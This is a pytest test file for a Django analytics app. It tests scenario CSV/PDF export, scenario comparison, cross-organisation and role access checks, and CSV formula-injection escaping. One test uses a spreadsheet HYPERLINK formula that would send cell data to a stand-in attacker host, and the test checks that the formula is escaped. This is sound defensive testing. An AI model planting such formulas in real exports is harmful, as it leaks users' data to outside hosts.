from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from django.urls import reverse

from chairside.analytics.tests.factories import make_scenario
from tests import factories as f


class TestScenarioExport:
    def test_it_exports_csv(self, admin_client: Any, org: Any) -> None:
        scenario = make_scenario(org, "Ten chairs")
        response = admin_client.get(reverse("analytics:scenario_csv", args=[scenario.public_id]))
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        text = response.content.decode()
        assert text.splitlines()[0] == "section,item,value"
        assert "Ten chairs" in text
        assert "Break-even, treatments a month" in text

    def test_it_exports_pdf(self, admin_client: Any, org: Any) -> None:
        scenario = make_scenario(org)
        response = admin_client.get(reverse("analytics:scenario_pdf", args=[scenario.public_id]))
        assert response.status_code == 200
        assert response.content.startswith(b"%PDF")

    def test_it_hides_another_organizations_scenario(
        self, admin_client: Any, other_org: Any
    ) -> None:
        theirs = make_scenario(other_org)
        for name in ("analytics:scenario_csv", "analytics:scenario_pdf"):
            assert admin_client.get(reverse(name, args=[theirs.public_id])).status_code == 404

    def test_it_forbids_a_role_without_reports(self, org: Any) -> None:
        scenario = make_scenario(org)
        nurse = f.login(f.make_user(org, "nurse"))
        url = reverse("analytics:scenario_csv", args=[scenario.public_id])
        assert nurse.get(url).status_code == 403


class TestScenarioCompare:
    def test_it_compares_two_scenarios(self, admin_client: Any, org: Any) -> None:
        a, b = make_scenario(org, "Small", a_chairs="6"), make_scenario(org, "Big", rent="20000")
        response = admin_client.get(
            reverse("analytics:compare"), {"s": [str(a.public_id), str(b.public_id)]}
        )
        assert response.status_code == 200
        assert b"Small" in response.content and b"Big" in response.content

    def test_it_needs_two(self, admin_client: Any, org: Any) -> None:
        a = make_scenario(org)
        response = admin_client.get(reverse("analytics:compare"), {"s": [str(a.public_id)]})
        assert response.status_code == 302

    def test_it_hides_another_organizations_scenario(
        self, admin_client: Any, org: Any, other_org: Any
    ) -> None:
        mine, theirs = make_scenario(org), make_scenario(other_org)
        response = admin_client.get(
            reverse("analytics:compare"), {"s": [str(mine.public_id), str(theirs.public_id)]}
        )
        assert response.status_code == 404


class TestScenarioExportFormulaInjection:
    """OWASP "CSV Injection": a cell a spreadsheet would run as a formula is quoted."""

    def test_a_formula_in_the_scenario_name_comes_out_escaped(
        self, admin_client: Any, org: Any
    ) -> None:
        evil = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
        scenario = make_scenario(org, evil)
        response = admin_client.get(reverse("analytics:scenario_csv", args=[scenario.public_id]))
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert ["scenario", "name", "'" + evil] in rows
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_every_csv_export_goes_through_the_escaping_helper() -> None:
    """No module writes CSV except ``rules.interop.csv_safe`` (so no export forgets to escape)."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "tests" not in p.parts
        and p.name != "csv_safe.py"
        and ("csv.writer(" in (text := p.read_text()) or "csv.DictWriter(" in text)
    ]
    assert offenders == []
